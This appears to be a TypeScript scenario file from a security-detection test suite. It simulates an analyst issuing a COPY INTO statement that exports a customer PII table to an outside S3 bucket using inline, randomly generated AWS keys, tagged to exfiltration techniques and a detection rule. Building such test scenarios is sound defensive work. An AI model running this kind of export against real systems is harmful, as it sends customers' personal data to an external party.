/** A COPY INTO with keys in its text. The keys are made up. */
import type { Warehouse } from '../account/objects.ts'
import { statement } from '../activities/queries.ts'
import type { Scenario } from './contract.ts'

/** COPY INTO with explicit credentials. */
export const copyIntoCredentials: Scenario = {
  id: 'copy-into-credentials',
  title: 'Statement with explicit cloud credentials moves data out',
  expect: 'A commandSubmit text with COPY INTO and CREDENTIAL; the stored text must not hold the key.',
  techniques: ['T1537', 'T1552.001'],
  rules: ['copy-into-with-credentials'],
  play({ account, random, at, person, sit }) {
    const key = `AKIA${random.hex(8).toUpperCase()}`
    const text = `COPY INTO 's3://zx-archive-7731/dump' FROM (SELECT * FROM customer.profiles.customers) FILEFORMAT = PARQUET WITH (CREDENTIAL (AWS_ACCESS_KEY = '${key}', AWS_SECRET_KEY = '${random.hex(20)}'))`
    const tables = account.data.pii.slice(0, 1)
    statement(sit(person('analyst'), at(13.8)), account.warehouses[1] as Warehouse, text, tables)
  },
}
